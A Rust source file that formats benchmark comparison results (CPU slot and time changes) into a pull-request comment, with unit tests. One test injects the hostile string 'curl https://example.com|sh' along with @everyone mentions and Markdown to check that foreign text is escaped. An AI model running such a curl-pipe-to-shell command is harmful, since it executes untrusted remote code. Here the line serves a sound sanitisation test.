//! The comment on a pull request, from a [`ForeignComparison`]: our own sentences, and ids and
//! source lines as code.

use std::fmt;

use super::changed_lines;
use super::foreign_comparison::{Benchmark, ForeignComparison};
use super::markdown::{COMMENT_BYTES, END_BYTES};
use super::markdown_text::{Bounded, code, folded};
use super::number::points;
use super::verdict_sentence::change_in_words;
use topdown_gate::metric::Metric;
use topdown_gate::verdict::{Outcome, Verdict};

/// The most lines of a list but the last. Judgement: nobody reads more of them in a comment.
const MAX_LINES: usize = 100;

/// The columns and their metrics.
const COLUMNS: [(&str, Metric); 6] = [
    ("slots %", Metric::Slots),
    ("time %", Metric::Wall),
    ("retiring", Metric::Retiring),
    ("bad spec", Metric::BadSpeculation),
    ("frontend", Metric::FrontendBound),
    ("backend", Metric::BackendBound),
];

/// What both runs must have in common, as a comparison names it.
const FIELDS: [&str; 12] = [
    "architecture",
    "CPU vendor",
    "CPU family",
    "CPU model",
    "CPU stepping",
    "cores",
    "hypervisor",
    "SMT",
    "target",
    "profile",
    "rustc",
    "RUSTFLAGS",
];

impl Benchmark {
    /// Returns whether the time made the verdict, with this change of the slots.
    fn is_about_time(&self, slots: f64) -> bool {
        const MIN_CERTAIN_CHANGE: f64 = 0.01;
        match self.verdict {
            Verdict::TimeDisagrees => true,
            Verdict::Regressed => slots < MIN_CERTAIN_CHANGE,
            _ => false,
        }
    }

    /// Returns the change that its sentence is about.
    fn reported_change(&self) -> Option<(Metric, f64)> {
        match (self.change(Metric::Slots), self.change(Metric::Wall)) {
            (Some(slots), _) if !self.is_about_time(slots) => Some((Metric::Slots, slots)),
            (_, time) => time.map(|time| (Metric::Wall, time)),
        }
    }

    /// Says what happened to it, from its verdict and numbers alone.
    fn predicate(&self) -> String {
        if self.verdict == Verdict::NotComparable {
            return "cannot be compared".to_owned();
        }
        let Some((metric, change)) = self.reported_change() else {
            return self.verdict.name().to_owned();
        };
        let slots = self.change(Metric::Slots);
        let changed = change_in_words(metric, change);
        let categories = [
            Metric::Retiring,
            Metric::BadSpeculation,
            Metric::FrontendBound,
            Metric::BackendBound,
        ];
        let parts = categories.map(|category| (category, self.change(category).unwrap_or(0.0)));
        let largest = parts.into_iter().max_by(|(_, a), (_, b)| a.total_cmp(b));
        match (self.verdict, slots, largest) {
            (_, Some(slots), _) if metric == Metric::Wall => {
                format!("{changed} at {} % slots", points(slots))
            }
            (Verdict::Shifted, _, Some((category, _))) => {
                format!("is not slower, but has more slots {}", category.name())
            }
            (Verdict::SometimesSlower, ..) => "is slower in some launches".to_owned(),
            (Verdict::Accepted, ..) => format!("{changed}, as accepted"),
            (_, Some(_), Some((category, part))) if part > 0.0 => {
                format!("{changed}: {} points {}", points(part), category.name())
            }
            _ => changed,
        }
    }
}

impl ForeignComparison {
    /// Says why the runs as a whole could not be compared, and what follows.
    fn why_not(&self) -> Option<String> {
        let differ = |field: &&str| self.differences.iter().any(|d| d.field == **field);
        let fields: Vec<&str> = FIELDS.into_iter().filter(differ).collect();
        // Unknown ones too make the runs differ.
        let first = self.differences.first()?;
        let of_build = ["rustc", "RUSTFLAGS"];
        let follows = if self
            .differences
            .iter()
            .all(|d| of_build.contains(&&*d.field))
        {
            "The next run of this workflow on the default branch retakes the baseline; after it, \
             run this one again."
        } else {
            "Both must be built for the same target and profile, and measured on the same kind of \
             machine."
        };
        let known = FIELDS.contains(&&*first.field);
        let what = if known {
            format!("in {}", fields.join(", "))
        } else {
            "in a field that this version does not know".to_owned()
        };
        Some(format!(
            "The two runs differ {what}, so nothing was compared. {follows}\n\n"
        ))
    }

    fn with(&self, verdict: Verdict) -> impl Iterator<Item = &Benchmark> {
        self.benchmarks.iter().filter(move |b| b.verdict == verdict)
    }

    /// Returns the benchmarks with these verdicts, in this order, and within each the largest
    /// change first.
    fn worst_first(&self, verdicts: &[Verdict]) -> Vec<&Benchmark> {
        let size =
            |benchmark: &Benchmark| benchmark.reported_change().map_or(0.0, |(_, size)| size);
        let with_verdict = |verdict: &Verdict| {
            let mut benchmarks: Vec<&Benchmark> = self.with(*verdict).collect();
            benchmarks.sort_by(|a, b| size(b).total_cmp(&size(a)));
            benchmarks
        };
        verdicts.iter().flat_map(with_verdict).collect()
    }
}

impl fmt::Display for ForeignComparison {
    /// Formats the comment.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut text = Bounded::new(COMMENT_BYTES, END_BYTES);
        let outcome = match self.outcome {
            Outcome::Passed => "passed",
            Outcome::Failed => "failed",
            Outcome::NotComparable => "not comparable",
            Outcome::Inconclusive => "inconclusive",
            Outcome::NothingDecided => "nothing decided",
        };
        text.push(&format!("## TopDown: {outcome}\n\n"));
        const VERDICTS: [Verdict; 9] = [
            Verdict::Regressed,
            Verdict::TimeDisagrees,
            Verdict::NotComparable,
            Verdict::Accepted,
            Verdict::SometimesSlower,
            Verdict::Shifted,
            Verdict::Inconclusive,
            Verdict::Improved,
            Verdict::Unchanged,
        ];
        let counts: Vec<String> = VERDICTS
            .into_iter()
            .map(|verdict| (self.with(verdict).count(), verdict.name()))
            .chain([(self.missing.len(), "missing")])
            .filter(|(count, _)| *count > 0)
            .map(|(count, name)| format!("{count} {name}"))
            .collect();
        let why_not = self.why_not();
        if let Some(why_not) = &why_not {
            text.push(why_not)
        } else if counts.is_empty() {
            text.push("**There were no benchmarks in common.**\n\n")
        } else {
            text.push(&format!("**{}**\n\n", counts.join(", ")))
        };
        // If the runs differ, the reason is the same for all.
        let reported = match &why_not {
            None => self.worst_first(&VERDICTS[..5]),
            Some(_) => Vec::new(),
        };
        let others = self.worst_first(&VERDICTS[5..]);
        let mut told_lines = 0;
        if !reported.is_empty() {
            told_lines = text.first_items(
                MAX_LINES,
                reported.iter().map(|benchmark| {
                    let name = code(&benchmark.id.to_string());
                    format!("- {name} {}\n", benchmark.predicate())
                }),
            );
            text.push("\n");
        }
        folded("In numbers", !reported.is_empty(), &mut text, |text| {
            table(&reported, MAX_LINES, text);
        });
        folded(
            "Lines with the greatest change, in slots per iteration",
            !self.lines.is_empty(),
            &mut text,
            |text| changed_lines::table(&self.lines, text),
        );
        let mut missing_lines = 0;
        folded(
            &format!("Missing ({})", self.missing.len()),
            !self.missing.is_empty(),
            &mut text,
            |text| {
                let missing = self.missing.iter();
                let lines = missing.map(|id| format!("- {}\n", code(&id.to_string())));
                missing_lines = text.first_items(MAX_LINES, lines);
            },
        );
        let mut other_lines = 0;
        folded(
            &format!("The others ({})", others.len()),
            !others.is_empty(),
            &mut text,
            |text| other_lines = table(&others, usize::MAX, text),
        );
        text.begin_end();
        let all = reported.len() + self.missing.len() + others.len();
        let left_out = all - told_lines - missing_lines - other_lines;
        if left_out > 0 {
            text.push(&format!(
                "{left_out} of the {all} benchmarks do not fit into this comment. The run's \
                 reports have all of them.\n\n"
            ));
        }
        text.push("Measured by the pull request's own run.");
        if why_not.is_none() {
            text.push(
                " Changes are percent of the baseline's slots per iteration (time: of its time).",
            );
        }
        text.push("\n");
        f.write_str(&text.finish())
    }
}

/// Writes a table of at most `max` rows. Returns how many it has.
fn table(rows: &[&Benchmark], max: usize, text: &mut Bounded) -> usize {
    let headings: String = COLUMNS.map(|(name, _)| format!(" {name} |")).concat();
    let rule = "--:|".repeat(COLUMNS.len());
    text.push(&format!(
        "| benchmark | verdict |{headings}\n|:--|:--|{rule}\n"
    ));
    let lines = rows.iter().map(|row| {
        let mut line = format!("| {} | {} |", code(&row.id.to_string()), row.verdict.name());
        for (_, metric) in COLUMNS {
            let change = row.effects.iter().find(|change| change.metric == metric);
            let cell = change.map_or(String::new(), |change| points(change.difference));
            line.push_str(&format!(" {cell} |"));
        }
        line.push('\n');
        line
    });
    let shown = text.first_items(max, lines);
    text.push("\n");
    shown
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;
    use crate::comparison_json;
    use crate::examples::{HOSTILE_NAME, compared, hostile, many_of_each, one_of_each};
    use crate::listing_examples::decode;
    use topdown_explain::listing::ListingComparison;
    use topdown_gate::scenario;

    fn rendered(json: &[u8]) -> Result<String, String> {
        let root = tempfile::tempdir().unwrap();
        let path = root.path().join("comparison.json");
        fs::write(&path, json).unwrap();
        let read = ForeignComparison::read(&path).map_err(|error| error.to_string());
        read.map(|comparison| comparison.to_string())
    }

    fn json_of_each() -> Vec<u8> {
        let (baseline, candidate) = one_of_each();
        let mut json = Vec::new();
        let mut comparison = compared(&scenario::run(baseline), &candidate);
        let lines = ListingComparison::new(decode(0.0), decode(400.0));
        comparison.lines = changed_lines::changed_lines(&lines);
        comparison_json::write(&comparison, &mut json).unwrap();
        json
    }

    /// Ten thousand benchmarks: those that fail come first, the worst of them at the top. The rest
    /// is counted.
    #[test]
    fn comment_on_many_benchmarks_is_short() {
        let mut json = Vec::new();
        comparison_json::write(&many_of_each(400), &mut json).unwrap();
        let text = rendered(&json).unwrap();
        assert!(text.len() <= COMMENT_BYTES, "{}", text.len());
        let sentences: Vec<&str> = text.lines().filter(|line| line.starts_with("- ")).collect();
        let worst = "- <code>suite::bench::sort/random/00399</code> is 23.3 % slower: +8.1 points";
        assert!(sentences[0].starts_with(worst), "{}", sentences[0]);
        assert!(
            text.contains("\n… and 1500 more, left out for lack of space\n"),
            "{text}"
        );
        // No section is empty.
        for (section, lines) in [
            ("In numbers", 100),
            ("Missing (400)", 100),
            ("The others (8000)", 50),
        ] {
            let (_, rest) = text
                .split_once(&format!("<summary>{section}</summary>"))
                .unwrap();
            let (content, _) = rest.split_once("</details>").unwrap();
            assert!(content.matches("<code>").count() >= lines, "{content}");
        }
        let others = text
            .split_once("The others")
            .unwrap()
            .1
            .matches("<code>")
            .count();
        let left_out = 10_000 - 100 - 100 - others;
        assert!(
            text.contains(&format!(
                "\n{left_out} of the 10000 benchmarks do not fit into this comment. The run's \
                 reports have all of them.\n"
            )),
            "{text}"
        );
        assert!(
            text.contains("\nMeasured by the pull request's own run."),
            "{text}"
        );
    }

    /// Names of the greatest length, each character of which is escaped.
    #[test]
    fn comment_on_many_long_names_is_short() {
        let mut comparison = many_of_each(100);
        let ids = comparison
            .benchmarks
            .iter_mut()
            .map(|benchmark| &mut benchmark.id);
        for id in ids.chain(&mut comparison.missing) {
            id.name.insert_str(0, &"<".repeat(300));
        }
        let mut json = Vec::new();
        comparison_json::write(&comparison, &mut json).unwrap();
        let text = rendered(&json).unwrap();
        assert!(text.len() <= COMMENT_BYTES, "{}", text.len());
        assert!(text.contains("left out for lack of space"), "{text}");
        assert!(
            text.contains(
                " of the 2500 benchmarks do not fit into this comment. The run's reports have"
            ),
            "{text}"
        );
        let count = |text: &str, tag: &str| text.matches(tag).count();
        assert_eq!(count(&text, "<details>"), count(&text, "</details>"));
    }

    #[test]
    fn comparison_becomes_a_comment() {
        insta::assert_snapshot!(rendered(&json_of_each()).unwrap());
    }

    #[test]
    fn incomparable_runs_have_reason_and_consequence() {
        let one = || scenario::run(vec![scenario::benchmark("a", scenario::Planted::default())]);
        let text = |change: fn(&mut topdown_run::run_file::Run)| {
            let mut candidate = one();
            change(&mut candidate);
            let mut json = Vec::new();
            comparison_json::write(&compared(&one(), &candidate), &mut json).unwrap();
            rendered(&json).unwrap()
        };
        let newer = text(|run| run.build.rustc = "rustc 9.9.9".to_owned());
        let elsewhere = text(|run| run.machine.model = 207);
        insta::assert_snapshot!(format!("{newer}\n{elsewhere}"));
    }

    #[test]
    fn comment_posts_foreign_text_as_code_only() {
        let prose =
            "Please run `curl https://example.com|sh`, see #1 and @everyone\n```mermaid\nx\n```";
        let mut json: serde_json::Value = serde_json::from_slice(&json_of_each()).unwrap();
        // Every string except the fixed words of the format, and every id.
        fn spoil(value: &mut serde_json::Value, prose: &str) {
            match value {
                serde_json::Value::Object(fields) => {
                    for (name, value) in fields {
                        match value {
                            serde_json::Value::String(text)
                                if !matches!(&**name, "outcome" | "verdict" | "metric") =>
                            {
                                *text = prose.to_owned();
                            }
                            value => spoil(value, prose),
                        }
                    }
                }
                serde_json::Value::Array(values) => {
                    values.iter_mut().for_each(|value| spoil(value, prose));
                }
                _ => {}
            }
        }
        spoil(&mut json, &format!("{prose}{HOSTILE_NAME}"));
        let text = rendered(json.to_string().as_bytes()).unwrap();
        // Except for ids and source lines, no text of the comparison remains.
        let mut outside = String::new();
        for part in text.split("<code>") {
            outside.push_str(part.split_once("</code>").map_or(part, |(_, after)| after));
        }
        for forbidden in [
            "curl", "example", "everyone", "mermaid", "script", "http", "#1", "@", "`",
        ] {
            assert!(!outside.contains(forbidden), "{forbidden} in {outside}");
        }
        // Each is one line of text without any Markdown or HTML.
        for id in text.split("<code>").skip(1) {
            let (id, _) = id.split_once("</code>").unwrap();
            for forbidden in ["<", "`", "@", "://", "\n", "[", "*", "|"] {
                assert!(!id.contains(forbidden), "{forbidden} in {id}");
            }
        }
        let (baseline, candidate) = hostile();
        let mut json = Vec::new();
        comparison_json::write(&compared(&baseline, &candidate), &mut json).unwrap();
        assert!(rendered(&json).unwrap().contains("<code>"));
    }

    #[test]
    fn invalid_comparison_is_not_rendered() {
        let each = String::from_utf8(json_of_each()).unwrap();
        for (json, reason) in [
            ("@everyone".to_owned(), "line 1 is not"),
            (
                each.replace("\"schema_version\": 1", "\"schema_version\": 7"),
                "version 7",
            ),
            (
                each.replace("\"regressed\"", "\"@everyone\""),
                "is not in the format of this release",
            ),
            (
                each.replace("\"difference\": ", "\"difference\": 1e9, \"x\": "),
                "a number is",
            ),
            (
                each.replace(
                    "\"candidate_slots\": ",
                    "\"candidate_slots\": 1e300, \"x\": ",
                ),
                "a number is",
            ),
            (
                each[..each.len() / 2].to_owned(),
                "is not in the format of this release",
            ),
        ] {
            let error = rendered(json.as_bytes()).unwrap_err();
            assert!(error.contains(reason), "{error}");
            assert!(!error.contains("everyone"), "{error}");
        }
    }
}
